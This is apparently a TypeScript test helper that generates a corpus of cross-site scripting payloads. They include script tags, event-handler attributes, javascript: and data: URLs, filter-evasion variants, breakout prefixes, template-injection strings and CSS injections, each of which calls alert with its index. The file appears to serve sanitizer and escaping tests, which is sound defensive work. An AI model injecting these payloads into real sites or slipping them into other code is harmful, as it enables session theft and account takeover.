/**
 * Texts that become a script where a page puts them in as anything else than text: into markup, an attribute, an address,
 * a template of a framework or a style. Each calls `alert` with its number where it runs.
 */
export function hostileTexts(): string[] {
  const markup = [...ELEMENTS, ...HANDLERS.flatMap(withHandler), ...URLS.flatMap(withAddress)];
  const all = [
    ...markup,
    ...markup.slice(0, 120).flatMap(brokenOut),
    ...TEMPLATES,
    ...URLS,
    ...STYLES,
    ...NOISE,
  ];
  return all.map((text, number) => text.replaceAll('RUN', `alert(${number})`));
}

const ELEMENTS = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script/x>RUN</script>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:RUN"/><text>x</text></svg>',
  '<svg><a href="javascript:RUN"><rect width=99 height=99 /></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<math href="javascript:RUN">x</math>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<button formaction="javascript:RUN">x</button>',
  '<base href="javascript:RUN//">',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<link rel="stylesheet" href="javascript:RUN">',
  '<template><img src=x onerror=RUN></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<style>@import "javascript:RUN";</style>',
  '<xmp><img src=x onerror=RUN></xmp>',
  '<textarea><img src=x onerror=RUN></textarea>',
  '<title><img src=x onerror=RUN></title>',
  '<!--><img src=x onerror=RUN>-->',
  '<![CDATA[<img src=x onerror=RUN>]]>',
  '<?xml-stylesheet href="javascript:RUN"?>',
  '<portal src="javascript:RUN">',
  '<dialog open><script>RUN</script></dialog>',
  '<details open ontoggle=RUN>',
  '<isindex action="javascript:RUN" type=image>',
];

const HANDLERS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus autofocus',
  'onmouseover',
  'onanimationstart',
  'ontransitionend',
  'onpointerenter',
  'onwheel',
  'onscroll',
  'ontoggle',
  'onbeforeinput',
  'oncut',
  'onhashchange',
];

function withHandler(handler: string): string[] {
  const [name, ...rest] = handler.split(' ');
  const more = rest.join(' ');
  return [
    `<img src=x ${name}=RUN ${more}>`,
    `<svg ${name}=RUN ${more}>`,
    `<body ${name}=RUN ${more}>`,
    `<input ${name}="RUN" ${more}>`,
    `<video ${name}=RUN ${more}><source></video>`,
    `<a href=# ${name}=RUN ${more}>x</a>`,
    `<IMG SRC=x ${name!.toUpperCase()}=RUN>`,
    `<img/src=x/${name}=RUN>`,
    `<img src=x\n${name}\n=\nRUN>`,
    `<img src="x" ${name}="eval(atob('YWxlcnQoMSk='))">`,
  ];
}

const URLS = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'javascript://example.com/%0aRUN',
  'https://example.com/"onmouseover="RUN',
  'https://example.com/<script>RUN</script>',
  "https://example.com/'onclick='RUN",
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:RUN',
  'view-source:javascript:RUN',
  'blob:https://example.com/RUN',
  'tel:javascript:RUN',
  'mailto:x@example.com?body=<script>RUN</script>',
  '//example.com/javascript:RUN',
  'feed:javascript:RUN',
  'javascript&colon;RUN',
  'javascript&#58;RUN',
  '\u202Ejavascript:RUN',
];

function withAddress(url: string): string[] {
  return [`<a href="${url}">x</a>`, `<img src='${url}'>`, `[x](${url})`, `![x](${url})`, `<${url}>`];
}

/** The same, after the end of what they may stand in. */
function brokenOut(text: string): string[] {
  return [`">${text}`, `'>${text}`, `</textarea></title></style></script>${text}`];
}

const TEMPLATES = [
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '{RUN}',
  '{count, plural, other {<b>RUN</b>}}',
  '<b>{x}</b><script>RUN</script>',
  '__proto__',
  'constructor',
  'toString',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
  '[object Object]',
];

const STYLES = [
  'x" style="background:url(javascript:RUN)',
  'expression(RUN)',
  '</style><script>RUN</script>',
  'color:red;background-image:url("javascript:RUN")',
  '@import "https://example.com/x.css";',
];

const NOISE = [
  '\u202E\u2066\u2069\u200B\uFEFF',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!',
  '𝒳'.repeat(40),
  'a'.repeat(2_000),
  '/* */ // <!-- ]]> %00 %0a',
];
